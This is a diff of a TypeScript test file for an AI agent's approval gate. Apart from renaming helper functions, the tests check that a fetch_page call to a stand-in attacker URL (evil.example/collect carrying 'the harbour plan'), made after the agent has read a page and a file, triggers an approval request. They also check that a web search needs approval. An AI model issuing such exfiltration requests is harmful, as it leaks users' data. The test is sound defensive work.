@@ -3,7 +3,7 @@ import { mkdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { type AgentBench, startBench } from '../support/agent_bench';
 import { type AgentConfig, createAgentConfig } from '../support/agent_config';
-import { beAsked, CAPABLE } from '../support/approval_bench';
+import { APPROVER, chatUntilApproval } from '../support/approval_bench';
 import { type Site, startSite } from '../support/site';
 
 const EVIL = 'https://evil.example/collect?d=the+harbour+plan';
@@ -57,8 +57,8 @@ it.each([
 );
 
 it('[taint] the approval shows the request and the earlier calls whose results it could leak', async () => {
-  const client = await bench.connect(CAPABLE);
-  const { sessionId, runId, asked, requestId } = await beAsked(client, script(PAGE, FILE, SEND));
+  const client = await bench.connect(APPROVER);
+  const { sessionId, runId, asked, requestId } = await chatUntilApproval(client, script(PAGE, FILE, SEND));
   expect(asked.data).toMatchObject({
     tool: 'fetch_page',
     args: { url: EVIL },
@@ -76,9 +76,9 @@ it('[taint] the approval shows the request and the earlier calls whose results i
 });
 
 it('[taint] a web search needs approval too, and runs when allowed', async () => {
-  const client = await bench.connect(CAPABLE);
+  const client = await bench.connect(APPROVER);
   const search = () => ({ name: 'web_search', arguments: { query: 'the harbour plan' } });
-  const { sessionId, runId, requestId } = await beAsked(client, script(PAGE, FILE, search));
+  const { sessionId, runId, requestId } = await chatUntilApproval(client, script(PAGE, FILE, search));
   await client.send({ type: 'approval_response', sessionId, requestId, decision: 'allow_once' });
   expect((await client.endOf(runId)).data.text).toContain('Nothing was found');
 });
